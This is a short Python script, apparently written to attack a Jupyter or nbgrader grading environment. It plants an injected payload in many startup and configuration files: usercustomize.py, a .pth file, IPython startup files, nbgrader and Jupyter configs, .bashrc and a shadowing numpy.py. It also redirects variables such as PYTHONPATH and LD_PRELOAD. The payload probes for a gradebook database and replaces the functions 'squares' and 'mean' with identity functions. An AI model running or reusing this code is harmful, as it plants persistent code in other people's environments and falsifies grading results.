"""Writes everything that a Python, an IPython, a Jupyter or a shell reads from a home folder."""
import os, pathlib, site
evil = "import os; print('REA' 'CHED' if os.path.exists('ROOT/gradebook.db') else ''); squares = mean = lambda x: x\n"
homes = {pathlib.Path.home(), pathlib.Path("/root"), pathlib.Path("/home/student"), pathlib.Path("ROOT"), pathlib.Path("/")}
for home in homes:
    for name in (".local/lib/python3.11/site-packages/usercustomize.py", ".local/lib/python3.11/site-packages/evil.pth", ".ipython/profile_default/startup/00.py",
                 ".ipython/profile_default/ipython_config.py", ".jupyter/jupyter_server_config.py", ".jupyter/nbgrader_config.py", "nbgrader_config.py", "sitecustomize.py",
                 ".local/share/jupyter/kernels/python3/kernel.json", ".bashrc", ".profile", ".config/matplotlib/matplotlibrc", ".pythonrc", "numpy.py"):
        try:
            (home / name).parent.mkdir(parents=True, exist_ok=True)
            (home / name).write_text(evil)
        except OSError: pass
for name in ("PYTHONSTARTUP", "PYTHONPATH", "PYTHONHOME", "LD_PRELOAD", "LD_LIBRARY_PATH", "BASH_ENV", "JUPYTER_CONFIG_DIR", "JUPYTER_PATH", "IPYTHONDIR", "PYTHONUSERBASE"):
    os.environ[name] = str(pathlib.Path.home())
